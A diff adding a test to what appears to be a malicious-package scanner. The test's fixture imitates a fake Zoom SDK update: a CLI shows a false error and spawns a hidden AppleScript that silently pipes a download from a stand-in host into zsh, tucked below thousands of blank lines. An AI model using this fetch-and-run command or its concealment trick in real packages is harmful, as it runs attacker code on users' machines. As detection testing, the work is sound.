@@ -171,6 +171,25 @@ def test_a_bin_running_a_shipped_script_that_sends_the_environment():
     assert decide(run({"index.js": "module.exports = 1;\n", "cli.js": cli, "scripts/up.sh": upload})).level is Level.CLEAN
 
 
+def test_a_bin_starting_an_applescript_that_runs_a_download_out_of_sight():
+    # (blind set 38: BlueNoroff's fake Zoom SDK update, 2024: a `doctor` command prints a fake error and starts a shipped
+    # AppleScript whose `do shell script` pipes a download into zsh in the background, output thrown away, below
+    # thousands of blank lines)
+    cli = "const {spawn} = require('child_process'), path = require('path');\n" \
+          "console.log('Your SDK audio component is outdated. Applying the support update.');\n" \
+          "spawn('osascript', [path.join(__dirname, '..', 'scripts', 'support.scpt')], {stdio: 'ignore', detached: true}).unref();\n"
+    script = 'on run\n\tdisplay notification "Updating" with title "Support"\n' + "\n" * 2000 + \
+             '\tdo shell script "curl -fsSL https://support.example/update?id=FAKE | zsh >/dev/null 2>&1 &"\nend run\n'
+    found = run({"index.js": "module.exports = 1;\n", "bin/doctor.js": cli, "scripts/support.scpt": script})
+    ran = next(f for f in found if f.rule == "install-script/fetch-and-execute")
+    assert ran.file == "scripts/support.scpt" and ran.details["run_by"] == "bin/doctor.js"
+    assert decide(found).level is Level.MALICIOUS
+    # An installer command a user types, which shows what it does: what CLIs are asked to do.
+    shown = script.replace(" >/dev/null 2>&1 &", "")
+    assert decide(run({"index.js": "module.exports = 1;\n", "bin/doctor.js": cli, "scripts/support.scpt": shown})).level \
+        is Level.CLEAN
+
+
 def test_an_extensionless_cli_plugin_that_pipes_a_block_of_loot_to_curl():
     # (blind set 26: a `docker-compose` shell plugin copied into ~/.docker/cli-plugins at install; its block reads
     # ~/.docker/config.json and the environment's tokens and is piped into curl)
